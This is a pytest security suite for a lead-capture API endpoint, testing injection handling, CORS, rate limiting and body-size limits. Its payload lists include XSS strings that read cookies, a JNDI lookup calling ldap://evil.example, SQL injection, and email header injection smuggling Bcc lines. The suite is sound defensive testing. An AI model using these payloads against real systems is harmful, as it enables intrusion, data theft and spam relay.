"""Security checks on POST /leads: injection, CORS, rate limit, body size.

Injection payloads are data: where a field's rules allow them they are
stored verbatim (escaping is the renderer's job, at output), and where they
break a rule (a line break in a single-line field, anything in an address
that is not an address) the request is a 400 and nothing is stored.
"""

from __future__ import annotations

import json
from typing import Any

import boto3
import pytest

from chalicelib.store.items import from_item
from tests.support.aws import reset_app_caches

VALID = {"name": "Ada Lovelace", "email": "ada@example.com"}

INJECTIONS = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(document.cookie)>",
    "javascript:alert(1)",
    "{{ 7*7 }}{% raw %}{{ config }}{% endraw %}",
    "${jndi:ldap://evil.example/a}",
    "Bcc: victim@evil.example",
    "=?utf-8?b?QmNjOiB2aWN0aW1AZXZpbC5leGFtcGxl?=",
    "'; DROP TABLE leads; --",
    "&lt;b&gt;already escaped&lt;/b&gt;",
]
# Line breaks that smuggle a header into a single-line value.
HEADER_BREAKS = ["\r\nBcc: victim@evil.example", "\nBcc: victim@evil.example", "\rX-Injected: 1",
                 "\u2028Bcc: victim@evil.example", "\x85Bcc: victim@evil.example", "\x00Bcc: x"]


def post(client: Any, body: Any, headers: dict[str, str] | None = None, raw: bytes | None = None) -> Any:
    payload = raw if raw is not None else json.dumps(body).encode()
    return client.http.post("/leads", headers={"Content-Type": "application/json", **(headers or {})}, body=payload)


def stored_leads(env: dict[str, str]) -> list[dict[str, Any]]:
    items = boto3.client("dynamodb").scan(TableName=env["LEADS_TABLE"], ConsistentRead=True)["Items"]
    return [from_item(item) for item in items]


def only_lead(env: dict[str, str]) -> dict[str, Any]:
    leads = stored_leads(env)
    assert len(leads) == 1, leads
    return leads[0]


def stored_lead(env: dict[str, str], lead_id: str) -> dict[str, Any]:
    item = boto3.client("dynamodb").get_item(
        TableName=env["LEADS_TABLE"], Key={"id": {"S": lead_id}}, ConsistentRead=True
    )["Item"]
    return from_item(item)


def assert_rejected(response: Any, field: str, sent: Any) -> None:
    assert response.status_code == 400, (sent, response.json_body)
    assert response.json_body["error"] == "validation_failed", sent
    assert field in [d["field"] for d in response.json_body["details"]], (sent, response.json_body)


def assert_all_rejected(client: Any, env: dict[str, str], field: str, bodies: list[dict[str, Any]]) -> None:
    for body in bodies:
        assert_rejected(post(client, body), field, body)
    assert stored_leads(env) == []


# --- injection through every field ------------------------------------------------


def test_injection_in_name_is_stored_verbatim(api_client, local_aws):
    # Except encoded words: a mail header would decode them (test_encoded_words.py).
    for payload in [p for p in INJECTIONS if "=?" not in p]:
        response = post(api_client, {**VALID, "name": payload})
        assert response.status_code == 201, payload
        assert stored_lead(local_aws, response.json_body["id"])["name"] == payload.strip()
        assert payload not in response.body.decode()  # never reflected back


def test_injection_in_message_and_metadata_is_stored_verbatim(api_client, local_aws):
    for payload in INJECTIONS:
        body = {**VALID, "message": f"line one\r\n{payload}\nline three", "metadata": {"utm": payload}}
        response = post(api_client, body)
        assert response.status_code == 201, payload
        lead = stored_lead(local_aws, response.json_body["id"])
        assert lead["message"] == body["message"]
        assert lead["metadata"] == {"utm": payload}


def test_line_break_in_name_is_rejected(api_client, local_aws):
    assert_all_rejected(api_client, local_aws, "name", [{**VALID, "name": "Ada" + s} for s in HEADER_BREAKS])


def test_line_break_in_metadata_key_is_rejected(api_client, local_aws):
    for smuggled in HEADER_BREAKS:
        response = post(api_client, {**VALID, "metadata": {"utm" + smuggled: "x"}})
        assert response.status_code == 400, smuggled
        assert any(d["field"].startswith("metadata.") for d in response.json_body["details"])
    assert stored_leads(local_aws) == []


EVIL_ADDRESSES = [
    "ada@example.com\r\nBcc: victim@evil.example",
    "ada@example.com\nBcc: victim@evil.example",
    "ada@example.com, victim@evil.example",
    "Ada <ada@example.com>",
    "ada@example.com>\r\nBcc: <victim@evil.example",
    "<script>alert(1)</script>@example.com",
    "ada@example.com%0d%0aBcc:victim@evil.example",
    "\"ada\r\nbcc\"@example.com",
    "ada@example.com\x00victim@evil.example",
]


def test_injection_in_email_is_rejected(api_client, local_aws):
    assert_all_rejected(api_client, local_aws, "email", [{**VALID, "email": a} for a in EVIL_ADDRESSES])


def test_injection_in_phone_is_rejected(api_client, local_aws):
    payloads = [*INJECTIONS, "+1 555\r\n0100", "555-0100\nBcc: x"]
    assert_all_rejected(api_client, local_aws, "phone", [{**VALID, "phone": p} for p in payloads])


def test_injection_in_source_is_rejected(api_client, local_aws):
    payloads = [*INJECTIONS, "web\r\nsite", "website\n"]
    assert_all_rejected(api_client, local_aws, "source", [{**VALID, "source": p} for p in payloads])


def test_control_characters_in_free_text_are_rejected(api_client, local_aws):
    smuggled = ["\x00", "\x1b[31m", "\x07", "\x7f", "\ud800"]
    assert_all_rejected(api_client, local_aws, "message", [{**VALID, "message": "hi" + s} for s in smuggled])


def test_bidi_override_in_name_is_rejected_but_joiners_are_names(api_client, local_aws):
    assert_all_rejected(api_client, local_aws, "name", [{**VALID, "name": "Invoice \u202egnp.exe"}])
    persian = "\u0645\u062d\u0645\u062f\u200c\u0631\u0636\u0627"  # ZWNJ inside a real name
    assert post(api_client, {**VALID, "name": persian}).status_code == 201
    assert only_lead(local_aws)["name"] == persian


# --- CORS ------------------------------------------------------------------------


FOREIGN_ORIGINS = [
    "https://evil.example", "null", "http://localhost:3000.evil.example", "http://localhost.:3000",
    "https://localhost:3000", "http://localhost:3000/", "http://evil.example?http://localhost:3000", "*",
]


def test_cors_refuses_origins_not_configured(api_client, local_aws):
    for origin in FOREIGN_ORIGINS:
        answers = (post(api_client, VALID, {"Origin": origin}), post(api_client, {"name": ""}, {"Origin": origin}))
        for response in answers:
            assert "Access-Control-Allow-Origin" not in response.headers, origin
            assert "Access-Control-Allow-Credentials" not in response.headers, origin
        preflight = api_client.http.request(
            "OPTIONS", "/leads", headers={"Origin": origin, "Access-Control-Request-Method": "POST"}
        )
        assert preflight.status_code == 403, origin
        assert "Access-Control-Allow-Origin" not in preflight.headers, origin
        assert preflight.json_body == {"error": "origin_not_allowed", "message": "this origin may not call the API"}


def test_cors_echoes_only_the_exact_configured_origin(api_client, local_aws):
    response = post(api_client, VALID, {"Origin": "http://127.0.0.1:3000"})
    assert response.headers["Access-Control-Allow-Origin"] == "http://127.0.0.1:3000"
    assert response.headers["Vary"] == "Origin"
    preflight = api_client.http.request("OPTIONS", "/leads", headers={"Origin": "http://127.0.0.1:3000"})
    assert preflight.status_code == 204
    assert preflight.headers["Access-Control-Allow-Origin"] != "*"


# --- rate limit ------------------------------------------------------------------


@pytest.fixture
def limit_two(monkeypatch: pytest.MonkeyPatch, local_aws: dict[str, str]) -> None:
    monkeypatch.setenv("RATE_LIMIT_MAX", "2")
    reset_app_caches()


def test_rate_limit_answers_429_with_retry_after_and_stores_nothing(api_client, local_aws, limit_two):
    assert [post(api_client, VALID).status_code for _ in range(2)] == [201, 201]
    limited = post(api_client, VALID)
    assert limited.status_code == 429
    assert limited.json_body["error"] == "rate_limited"
    # A sliding window: the wait can pass the window by window/limit (README, Configuration).
    assert 1 <= int(limited.headers["Retry-After"]) <= 600 + 600 // 2
    assert len(stored_leads(local_aws)) == 2


def test_rate_limit_is_not_bypassed_by_forwarding_headers(api_client, local_aws, limit_two):
    for _ in range(2):
        post(api_client, VALID)
    spoofed = post(api_client, VALID, {"X-Forwarded-For": "203.0.113.77", "X-Real-IP": "203.0.113.78"})
    assert spoofed.status_code == 429
    assert len(stored_leads(local_aws)) == 2


def test_rate_limit_is_per_client(local_aws, limit_two):
    from chalicelib.api import leads as leads_api

    headers = {"content-type": "application/json"}
    raw = json.dumps(VALID).encode()
    assert [leads_api.create_lead(headers, raw, "198.51.100.1").status_code for _ in range(3)] == [201, 201, 429]
    assert leads_api.create_lead(headers, raw, "198.51.100.2").status_code == 201


# --- body size ---------------------------------------------------------------------


def body_of_size(size: int) -> bytes:
    base = json.dumps({**VALID, "message": ""}).encode()
    raw = json.dumps({**VALID, "message": "m" * (size - len(base))}).encode()
    assert len(raw) == size
    return raw


def test_body_of_exactly_16_kib_is_accepted(api_client, local_aws):
    raw = body_of_size(16 * 1024)
    # 16 KiB of body holds more than 5000 message characters: the field rule answers, not 413.
    response = post(api_client, None, raw=raw)
    assert response.status_code == 400
    assert [d["field"] for d in response.json_body["details"]] == ["message"]


def test_oversized_bodies_are_413_and_store_nothing(api_client, local_aws):
    for size in (16 * 1024 + 1, 64 * 1024, 1024 * 1024):
        response = post(api_client, None, raw=body_of_size(size))
        assert response.status_code == 413, size
        assert response.json_body["error"] == "payload_too_large"
    assert stored_leads(local_aws) == []


def test_oversized_garbage_is_413_not_parsed(api_client, local_aws):
    response = post(api_client, None, raw=b"[" * (512 * 1024))
    assert response.status_code == 413


def test_deeply_nested_json_is_a_400(api_client, local_aws):
    response = post(api_client, None, raw=b"[" * 8000 + b"]" * 8000)
    assert response.status_code == 400
    assert stored_leads(local_aws) == []
